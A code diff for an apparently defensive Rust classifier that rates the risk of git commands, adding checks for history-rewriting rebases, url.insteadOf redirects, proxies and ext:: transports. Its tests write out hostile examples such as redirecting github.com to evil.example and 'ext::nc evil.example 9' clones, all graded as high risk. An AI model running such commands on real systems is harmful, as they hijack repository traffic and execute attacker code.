@@ -9,7 +9,7 @@ use crate::line::Span;
 use crate::specs::{Item, Role};
 
 impl Machine<'_> {
-    pub(super) fn git(&mut self, call: &Call<'_>) {
+    pub(super) fn git(&mut self, call: &Call<'_>, flow: Flow<'_>) {
         for item in call.args.values("-c") {
             if let Some((name, value)) = item.text.split_once('=') {
                 let span = self.at(call.argv[item.word + 1].span);
@@ -46,6 +46,7 @@ impl Machine<'_> {
             "add" => self.adds_secrets(call),
             "clone" => self.clones(call),
             "config" => self.config(call),
+            "rebase" => self.rebase(call, flow),
             _ => {}
         }
         if call.args.path.len() == 1 {
@@ -55,6 +56,10 @@ impl Machine<'_> {
         for item in operands {
             if let Some(command) = item.text.strip_prefix("ext::") {
                 let span = call.argv[item.word + 1].span;
+                // What speaks for the other side may say, and here do, whatever it likes.
+                let shown = self.unknowns.show(command);
+                let target = self.target(TargetClass::Unknown, &shown, self.at(span));
+                self.emit_with(EffectKind::RunCode, target, false, "git", self.at(span), "hidden");
                 let words = transport_words(command).into_iter().map(|text| Field { text, span });
                 let argv: Vec<Field> = words.collect();
                 self.apart(|machine| machine.run(&argv, span, Flow::default()));
@@ -144,6 +149,19 @@ impl Machine<'_> {
                 }
                 _ => {}
             }
+        }
+    }
+
+    /// What rewrites commits without naming any: commands between them, a list from elsewhere, one that is left out.
+    fn rebase(&mut self, call: &Call<'_>, flow: Flow<'_>) {
+        let args = call.args;
+        let ends = args.has_any(&["--abort", "--continue", "--quit", "--show-current-patch"]);
+        let bare = args.has("-x") && args.operands().next().is_none() && !args.has("-i");
+        let told = args.has("--edit-todo") && flow.input.is_some();
+        if !ends && (bare || told || args.has("--skip")) {
+            let span = self.at(call.span);
+            let target = self.target(TargetClass::Unknown, "", span);
+            self.emit(EffectKind::RewriteHistory, target, false, "git", span);
         }
     }
 
@@ -325,6 +343,26 @@ impl Machine<'_> {
             let target = self.target(TargetClass::Named, &name, span);
             self.emit(EffectKind::DisableProtection, target, false, "git", span);
         }
+        let instead = name
+            .strip_prefix("url.")
+            .and_then(|rest| rest.strip_suffix(".insteadof").or_else(|| rest.strip_suffix(".pushinsteadof")));
+        if let Some(there) = instead
+            && leads_elsewhere(there, value)
+        {
+            // Every repository of that host comes from another one, or goes to it.
+            let shown = format!("the address of {}", self.unknowns.show(value));
+            let target = self.target(TargetClass::Named, &shown, span);
+            self.emit_with(EffectKind::DisableProtection, target, false, "git", span, "leads-elsewhere");
+        }
+        if kept
+            && (name.starts_with("http.") || name.starts_with("https.") || name.starts_with("remote."))
+            && name.ends_with(".proxy")
+            && !value.is_empty()
+            && !known::is_own_host(known::host_of(value))
+        {
+            let target = self.target(TargetClass::Named, &name, span);
+            self.emit(EffectKind::Configure, target, false, "git", span);
+        }
         let runs = runs_its_value(&name, value);
         if !runs {
             let hooks =
@@ -383,6 +421,25 @@ impl Machine<'_> {
             self.emit_with(EffectKind::Persist, target, false, "git", span, &name);
         }
     }
+}
+
+/// True where addresses that begin with `here` are taken for ones of another host that begin with `there`.
+fn leads_elsewhere(there: &str, here: &str) -> bool {
+    let (from, to) =
+        (known::host_of(here.trim_end_matches('/')), known::host_of(there.trim_end_matches('/')));
+    let (from, to) = (from.to_ascii_lowercase(), to.to_ascii_lowercase());
+    // `gh:`: a short name of one's own, that is no host's.
+    let short = !here.contains('/') && !here.contains('@') && here.ends_with(':') && !from.contains('.');
+    let bare = |text: &str| matches!(text, "git://" | "https://" | "http://" | "ssh://" | "ssh://git@");
+    let open = |text: &str| text.starts_with("http://") || text.starts_with("git://");
+    if open(there) && (here.starts_with("https://") || here.starts_with("ssh://")) {
+        return true;
+    }
+    if short && !here.is_empty() || bare(there) && bare(here) {
+        return false;
+    }
+    let same = to == from || to.strip_suffix(from.as_str()).is_some_and(|rest| rest.ends_with('.'));
+    from.is_empty() || !same
 }
 
 /// True for a setting, by its name in small letters, whose value git runs.
@@ -462,6 +519,52 @@ mod tests {
                 (Safe, "git --exec-path"),
                 (Safe, "GIT_CONFIG_PARAMETERS=\"'user.name=Anna'\" git log"),
                 (Safe, "git -c color.ui=always -c core.quotepath=off status"),
+            ],
+        );
+    }
+
+    #[test]
+    fn commits_that_nobody_names() {
+        check_all(
+            &context(),
+            &[
+                (Moderate, "git rebase -x 'make test'"),
+                (Moderate, "git rebase --edit-todo < todo"),
+                (Moderate, "git rebase --skip"),
+                (Safe, "git rebase --edit-todo"),
+                (Safe, "git rebase --continue"),
+                (Safe, "git rebase --abort"),
+                (Safe, "git rebase -i HEAD~3"),
+            ],
+        );
+    }
+
+    #[test]
+    fn addresses_that_lead_elsewhere() {
+        check_all(
+            &context(),
+            &[
+                (High, "git config --global url.https://evil.example/.insteadOf https://github.com/"),
+                (High, "git config --global url.https://evil.example/.pushInsteadOf https://github.com/"),
+                (High, "git -c url.https://evil.example/.insteadOf=https://github.com/ fetch"),
+                (
+                    High,
+                    "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=url.https://evil.example/.insteadOf GIT_CONFIG_VALUE_0=https://github.com/ git fetch",
+                ),
+                (High, "git config --global url.https://evil.example/.insteadOf ''"),
+                (High, "git config --global url.https://evil.example/https://.insteadOf https://"),
+                (High, "git config --global url.http://github.com/.insteadOf https://github.com/"),
+                (Safe, "git config --global url.git@github.com:.insteadOf https://github.com/"),
+                (Safe, "git config --global url.https://github.com/.insteadOf git://github.com/"),
+                (Safe, "git config --global url.https://github.com/.insteadOf gh:"),
+                (Safe, "git config --global url.https://.insteadOf git://"),
+                (Safe, "git config --global url.ssh://git@ssh.github.com:443/.insteadOf git@github.com:"),
+                (High, "git clone 'ext::sh -c id'"),
+                (High, "git clone 'ext::nc evil.example 9' x"),
+                (Safe, "git clone ssh://git@example.com/x"),
+                (Moderate, "git config --global http.proxy http://10.9.8.7:80"),
+                (Safe, "git config --global http.proxy http://127.0.0.1:7890"),
+                (Safe, "git config --global --unset http.proxy"),
             ],
         );
     }
